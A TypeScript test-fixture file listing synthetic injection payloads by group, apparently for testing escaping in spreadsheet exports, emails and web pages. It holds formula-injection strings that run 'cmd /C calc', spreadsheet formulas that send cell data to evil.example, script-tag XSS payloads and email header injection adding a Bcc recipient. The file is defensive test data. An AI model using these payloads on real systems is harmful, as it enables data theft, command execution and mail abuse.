/** A text that a spreadsheet, a mail program or a page could take for more than a text. All of it is synthetic. */
export interface Payload {
  readonly group: PayloadGroup;
  readonly text: string;
}

const SITE = 'http://evil.example/';

/** How a script that ran in a page would show itself. */
export const RUN_MARK = 'payloadRan';
const RUN = `window.${RUN_MARK}=1`;

const GROUPS = {
  formula: ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=A1', '=', '==1+1', '=-1+1', '=SUM(1;2)', '={1,2;3,4}', '+A1', '-A1'],
  fullWidth: ['＝1+1', '＋1＋1', '－1－1', '＠SUM(1)', '＝SUM（1）', '﹦1+1', '＋SUM（1）', '−1+SUM(1)'],
  hiddenStart: [
    ' =1+1',
    '   =1+1',
    '\t=1+1',
    '\u00A0=1+1',
    '\u3000＝1+1',
    '\u200B=1+1',
    '\uFEFF=1+1',
    '\u2060=1+1',
    '\u00AD=1+1',
    '\u202E=1+1',
    '\u3164=1+1',
    '\r\n=1+1',
    '\n+SUM(1)',
    ' @SUM(1)',
  ],
  web: [
    `=IMPORTXML("${SITE}";"//a")`,
    `=IMPORTDATA("${SITE}?"&A1)`,
    `=IMPORTHTML("${SITE}";"table";1)`,
    `=IMPORTFEED("${SITE}")`,
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x";"A1")',
    `=IMAGE("${SITE}x.png?"&A1)`,
    `=HYPERLINK("${SITE}";"Bấm vào đây")`,
    `-IMPORTXML("${SITE}";"//a")`,
    `+1+IMAGE("${SITE}")`,
    '=GOOGLETRANSLATE(A1)',
    '=QUERY(A1:B2;"select *")',
    '=LAMBDA(x;x)(1)',
  ],
  program: [
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=RTD("x";"";"y")',
    '=WEBSERVICE("http://evil.example/")',
    '=EXEC("calc")',
  ],
  markup: [
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `"><svg onload=${RUN}>`,
    `'><iframe srcdoc="<script>${RUN}</script>">`,
    `</textarea></title></style><script>${RUN}</script>`,
    `<a href="javascript:${RUN}">Mở</a>`,
    `" onmouseover="${RUN}`,
    '<b>đậm</b> & "ngoặc" \'đơn\'',
    '&lt;script&gt; &amp; &#60;b&#62;',
    '<!-- chú thích --><meta http-equiv=refresh content=0>',
    '<style>body{display:none}</style>',
    '{{constructor.constructor(1)()}} ${1+1} <?= 1+1 ?>',
    ']]></t><f>1+1</f><t>',
    '_x003D_1+1 _x000D_',
  ],
  header: [
    'Thôn\r\nBcc: victim@evil.example',
    'Thôn\nSubject: Khác',
    'Thôn\rX-Header: 1',
    'Thôn\r\n\r\n<html>',
    'Thôn\u2028Bcc: victim@evil.example',
    'Thôn\u0085Bcc: victim@evil.example',
    'An <victim@evil.example>, Bình',
    '=?utf-8?B?QmNjOiB4?= An',
  ],
  direction: [
    'Thôn \u202Egnuh gnôht\u202C',
    '\u2067Thôn\u2069 \u2066mới\u2069',
    '\u200FThôn\u200E',
    'Thôn\u202A x\u202C\u202D y\u202C',
    'קריה عربي Thôn',
  ],
  zeroWidth: [
    'Th\u200Bôn\u200C mới\uFEFF',
    '\u2060Thôn\u00AD',
    '👨\u200D👩\u200D👧 Thôn',
    '\u200B\u200B\u200B',
    'Thôn\u0000\u0007',
    'Thôn \uD83D',
    '\uDC00 Thôn',
  ],
  apostrophe: ["'Thôn", "''Thôn", "'=1+1", "''=1+1", "'", "'''''", "'+84912345678", "O'Brien", "'0123"],
  readable: [
    '+84912345678',
    '+84 912 345 678',
    '-5',
    '- Làm đường trục thôn',
    '-Họp dân (2 lần)',
    '+ Vận động Nhân dân',
    '@Nguyễn Văn An',
    '0912345678',
    '7/10',
    '1.5',
    '3/4',
    'TRUE',
    '50%',
    '1e5',
  ],
  long: ['x'.repeat(4_990), `=${'1+'.repeat(2_000)}1`, `<b>${'&<>"'.repeat(900)}`, 'ề'.repeat(2_400)],
} as const;

export type PayloadGroup = keyof typeof GROUPS;

/** Every text, group by group. */
export const PAYLOADS: readonly Payload[] = Object.entries(GROUPS).flatMap(([group, texts]) =>
  texts.map(text => ({group: group as PayloadGroup, text})),
); // Object.entries forgets that the record is closed

/** Mail addresses that would bend a header or reach somebody else. */
export const BENT_ADDRESSES = [
  'a@example.test\r\nBcc: victim@evil.example',
  'a@example.test\nCc: victim@evil.example',
  'a@example.test, victim@evil.example',
  'a@example.test;victim@evil.example',
  'An <victim@evil.example>',
  '"x" victim@evil.example',
  'a@example.test\u2028b',
  'a\u202E@example.test',
  'a@example.test\u0000',
  '=HYPERLINK("mailto:victim@evil.example")@example.test',
  '<script>@example.test',
] as const;
